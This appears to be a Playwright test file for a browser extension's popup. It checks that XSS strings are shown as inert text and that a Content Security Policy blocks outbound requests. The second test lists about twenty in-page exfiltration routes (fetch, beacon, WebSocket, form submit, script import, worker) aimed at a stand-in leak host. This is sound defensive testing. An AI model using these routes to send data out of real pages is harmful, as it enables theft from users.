import type { Page } from '@playwright/test';
import { hintsOf } from '../support/hint.ts';
import { takeFaults } from '../support/faults.ts';
import { expect, test } from './fixtures.ts';
import { drawn, fill, PER_FRAME, SOURCES, type Source } from './hostile-fill.ts';
import { at, html, strangeHosts } from './hostile-pages.ts';
import { LEAK, XSS } from './hostile-strings.ts';

for (const source of Object.keys(SOURCES) as Source[])
  test(`120 texts that are markup, from ${source === 'pair' ? 'labels with their values' : `${source}s`}, are shown as the texts they are`, async ({
    shared,
    portal,
  }) => {
    const { says, signal } = SOURCES[source];
    const before = portal.requests.length;
    portal.serve('/hostile/part.html', html('<p>提示</p>'));
    const frames = '<iframe src="/hostile/part.html" width="900" height="400"></iframe>'.repeat(XSS.length / PER_FRAME);
    portal.serve('/hostile/markup.html', html(frames));
    const page: Page = await shared.open(at('/hostile/markup.html'));
    for (const [index, frame] of page.frames().slice(1).entries())
      await frame.evaluate(fill, {
        source,
        says,
        first: index * PER_FRAME,
        texts: XSS.slice(index * PER_FRAME, (index + 1) * PER_FRAME),
      });
    await expect.poll(async () => Number(await shared.badge(page))).toBeGreaterThanOrEqual(XSS.length);
    const marks = (await hintsOf(page)).map(({ text }) => text).join('\n');

    const popup = await shared.openPopup(page);
    for (const width of [400, 1280]) {
      await popup.setViewportSize({ width, height: 700 });
      await popup.reload();
      await expect(popup.locator(`[data-finding="${signal}"]`).first()).toBeAttached();
      await expect.poll(async () => (await popup.evaluate(drawn)).elements).toBeGreaterThan(100);
      await popup.waitForTimeout(200);
      const shown = await popup.evaluate(drawn);
      const missing = XSS.filter((text, index) => !shown.text.includes(`${index} ${text}`));
      expect(missing, `at ${width} px`).toEqual([]);
      expect(shown, `at ${width} px`).toMatchObject({ foreign: [], hit: false });
    }
    expect(XSS.filter((text) => marks.includes(text))).toEqual([]);
    for (const frame of page.frames()) expect(await frame.evaluate(() => 'hit' in window)).toBe(false);
    expect(takeFaults()).toEqual([]);
    expect(strangeHosts(portal.requests.slice(before))).toEqual([]);
    await popup.close();
    await page.close();
  });

/** Ways out of an extension page, were a script of somebody else ever to run there. Each runs in the page. */
const ROUTES: Readonly<Record<string, (url: string) => unknown>> = {
  picture: (url) => void (new Image().src = url),
  'picture in the page': (url) => document.body.append(Object.assign(document.createElement('img'), { src: url })),
  'background of a style': (url) => document.body.style.setProperty('background-image', `url(${url})`),
  'style sheet': (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  'imported style': (url) => document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${url}"` })),
  font: (url) => new FontFace('leak', `url(${url})`).load(),
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  XMLHttpRequest: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  WebSocket: (url) => void new WebSocket(url.replace('https', 'wss')),
  EventSource: (url) => void new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  form: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  frame: (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  object: (url) => document.body.append(Object.assign(document.createElement('object'), { data: url })),
  video: (url) => document.body.append(Object.assign(document.createElement('video'), { src: url, autoplay: true })),
  script: (url) => document.head.append(Object.assign(document.createElement('script'), { src: url })),
  'imported module': (url) => import(url),
  worker: (url) => void new Worker(url),
  prefetch: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })),
  preload: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url })),
  manifest: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: url })),
};

test('were a script of somebody else to run in the popup, it could send nothing anywhere', async ({ shared, portal }) => {
  const before = portal.requests.length;
  const page = await shared.open(at('/nationalHallSt/#/Index'));
  const popup = await shared.openPopup(page);
  for (const [name, route] of Object.entries(ROUTES)) {
    const url = `https://${LEAK}/${name.replaceAll(' ', '-')}`;
    await popup.evaluate(`Promise.resolve().then(() => (${route.toString()})(${JSON.stringify(url)})).then(() => {}, () => {})`);
  }
  await popup.waitForTimeout(1_000);
  expect(popup.url()).toContain(shared.extensionId);
  expect(portal.requests.slice(before).filter((request) => request.startsWith(LEAK))).toEqual([]);
  // The policy refused each of them, so that nothing else was needed.
  const refused = takeFaults().filter((line) => line.includes('Content Security Policy'));
  for (const name of ['picture', 'fetch', 'beacon', 'script', 'form']) expect(refused.join('\n')).toContain(`${LEAK}/${name}`);
  expect(refused.length).toBeGreaterThanOrEqual(Object.keys(ROUTES).length - 1);
  await popup.close();
  await page.close();
});
